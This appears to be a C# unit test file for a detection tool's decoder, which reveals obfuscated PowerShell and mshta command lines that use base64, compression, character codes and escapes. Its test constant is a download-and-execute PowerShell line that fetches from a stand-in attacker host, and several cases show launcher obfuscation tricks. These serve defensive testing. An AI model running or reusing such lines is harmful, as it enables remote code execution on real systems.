using System.IO.Compression;
using System.Text;
using TriageConsole.Detection.CommandLines;
using Xunit;

namespace TriageConsole.Detection.Tests.CommandLines;

public sealed class CommandLineDecoderTests
{
    private const string Script = "IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a')";

    [Theory]
    [InlineData(true)]
    [InlineData(false)]
    public void Decode_Base64OfText_IsTheTextWithItsPlace(bool wide)
    {
        var word = Convert.ToBase64String((wide ? Encoding.Unicode : Encoding.UTF8).GetBytes(Script));
        var line = $"powershell.exe -enc {word} -x";

        var part = Assert.Single(CommandLineDecoder.Decode(line));

        Assert.Equal((DecodedKind.Base64, Script, 1), (part.Kind, part.Text, part.Depth));
        Assert.Equal(word, line.Substring(part.Start, part.Length));
    }

    [Theory]
    [InlineData("gzip")]
    [InlineData("deflate")]
    [InlineData("zlib")]
    public void Decode_Base64OfCompressedText_IsTheText(string kind)
    {
        var line = "powershell -c " + Convert.ToBase64String(Compressed(kind, Encoding.UTF8.GetBytes(Script)));

        var part = Assert.Single(CommandLineDecoder.Decode(line));

        Assert.Equal((DecodedKind.Compressed, Script), (part.Kind, part.Text));
    }

    [Theory]
    [InlineData("mshta vbscript:Execute(Chr(99)&Chr(97)&Chr(108)&ChrW(&H63))(window.close)", "calc", "Chr(99)&Chr(97)&Chr(108)&ChrW(&H63)")]
    [InlineData("powershell iex ([char]0x63+[char]97+[char]108+[char]99)", "calc", "[char]0x63+[char]97+[char]108+[char]99)")]
    [InlineData("powershell -join [char[]](99, 97, 108, 99)", "calc", "[char[]](99, 97, 108, 99")]
    [InlineData("mshta javascript:eval(String.fromCharCode(99,97,108,0x63))", "calc", "fromCharCode(99,97,108,0x63)")]
    public void Decode_CharacterCodes_AreTheTextWithItsPlace(string line, string text, string hidden)
    {
        var part = Assert.Single(CommandLineDecoder.Decode(line));

        Assert.Equal((DecodedKind.CharacterCodes, text), (part.Kind, part.Text));
        Assert.Equal(hidden, line.Substring(part.Start, part.Length));
    }

    [Fact]
    public void Decode_Escapes_AreTheText()
    {
        var part = Assert.Single(CommandLineDecoder.Decode("mshta javascript:eval('\\x63\\x61\\u006c\\x63')"));

        Assert.Equal((DecodedKind.Escapes, "calc"), (part.Kind, part.Text));
    }

    [Fact]
    public void Decode_HiddenTwice_IsReadDownToTheLastAtTheWordsThatAreSeen()
    {
        var inner = "powershell -enc " + Convert.ToBase64String(Encoding.Unicode.GetBytes(Script));
        var line = "powershell -enc " + Convert.ToBase64String(Encoding.Unicode.GetBytes(inner));

        var parts = CommandLineDecoder.Decode(line);

        Assert.Equal([(1, inner), (2, Script)], parts.Select(part => (part.Depth, part.Text)));
        Assert.Equal((parts[0].Start, parts[0].Length), (parts[1].Start, parts[1].Length));
    }

    [Theory]
    [InlineData(null)]
    [InlineData("")]
    [InlineData("wscript.exe C:\\Users\\ann\\invoice.js //B")]
    [InlineData("cmd /c echo Chr(65)")]
    [InlineData("x.exe AB01AB01AB01AB01AB01AB01AB01AB01AB01AB01AB01AB01AB01AB01AB01AB01")]
    [InlineData("y.exe [char]9999999+[char]9999999+[char]9999999+[char]9999999")]
    public void Decode_NothingHidden_IsNothing(string? line) => Assert.Empty(CommandLineDecoder.Decode(line));

    [Fact]
    public void Decode_Bombs_AreBoundInLengthDepthAndNumber()
    {
        var bomb = Convert.ToBase64String(Compressed("gzip", Encoding.UTF8.GetBytes(new string('a', 4_000_000))));
        var many = string.Join(' ', Enumerable.Range(0, 100).Select(number => Convert.ToBase64String(Encoding.UTF8.GetBytes($"a text that is number {number:000}"))));
        var deep = Script;
        for (var i = 0; i < 6; i++)
            deep = Convert.ToBase64String(Encoding.UTF8.GetBytes(deep));

        Assert.Equal(CommandLineDecoder.LongestText, Assert.Single(CommandLineDecoder.Decode(bomb)).Text.Length);
        Assert.Equal(CommandLineDecoder.MostParts, CommandLineDecoder.Decode(many).Count);
        Assert.Equal(CommandLineDecoder.Deepest, CommandLineDecoder.Decode(deep).Max(part => part.Depth));
    }

    private static byte[] Compressed(string kind, byte[] bytes)
    {
        using var buffer = new MemoryStream();
        using (Stream packing = kind switch
        {
            "gzip" => new GZipStream(buffer, CompressionLevel.Optimal, leaveOpen: true),
            "zlib" => new ZLibStream(buffer, CompressionLevel.Optimal, leaveOpen: true),
            _ => new DeflateStream(buffer, CompressionLevel.Optimal, leaveOpen: true),
        })
        {
            packing.Write(bytes);
        }

        return buffer.ToArray();
    }
}
